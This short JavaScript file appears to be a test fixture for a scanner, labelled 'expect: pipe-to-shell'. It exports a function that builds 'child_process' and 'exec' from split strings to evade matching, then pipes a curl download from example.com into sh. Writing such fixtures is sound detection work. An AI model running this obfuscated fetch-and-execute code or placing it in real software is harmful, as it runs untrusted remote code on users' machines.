// expect: pipe-to-shell
const mod = require("child_" + "process");
const fn = "ex" + "ec";

module.exports = () => mod[fn]("curl -s https://example.com/x | sh");
